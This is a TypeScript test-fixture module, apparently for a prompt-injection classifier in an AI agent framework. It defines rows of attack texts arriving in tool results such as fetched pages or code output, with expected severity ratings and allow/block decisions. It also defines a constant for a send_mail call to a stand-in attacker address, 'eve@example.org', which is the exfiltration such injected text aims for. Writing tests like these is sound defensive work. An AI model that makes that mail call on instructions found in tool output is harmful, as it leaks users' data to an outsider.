import type { Outcome, ToolCall } from '@sallyport/core';

/** What the classifier makes of a text. `request`: it asks for something, and gets no mark. `none`: it finds nothing. */
type Found = 'high' | 'medium' | 'low' | 'request' | 'none';

/** A text that the original design names as an attack, in the result of a tool. */
export interface Row {
  readonly title: string;
  /** The number of the requirement in the original design, and the tool whose result holds the text. */
  readonly origin: readonly [requirement: string, tool: 'fetch_page' | 'search_pages' | 'run_code' | 'search_index'];
  readonly payload: string;
  readonly expected: {
    /** For the text by itself, and in the middle of a page. */
    readonly found: readonly [alone: Found, inPage: Found];
    /** How the body of the frame shows a part of the payload. Absent: as it is. */
    readonly escaped?: string;
    /** A call that does what the text wants. */
    readonly call?: Pick<ToolCall, 'tool' | 'arguments'>;
    /** The decision about it, for the text by itself and in a page. Without a judge, a mail that a mere request names passes. */
    readonly decision?: readonly [alone: Outcome, inPage: Outcome];
  };
}

const EVE = 'eve@example.org';

/** The call that a text wants if it names an address. */
export const TO_EVE: Pick<ToolCall, 'tool' | 'arguments'> = {
  tool: 'send_mail',
  arguments: { to: EVE, body: 'The list' },
};
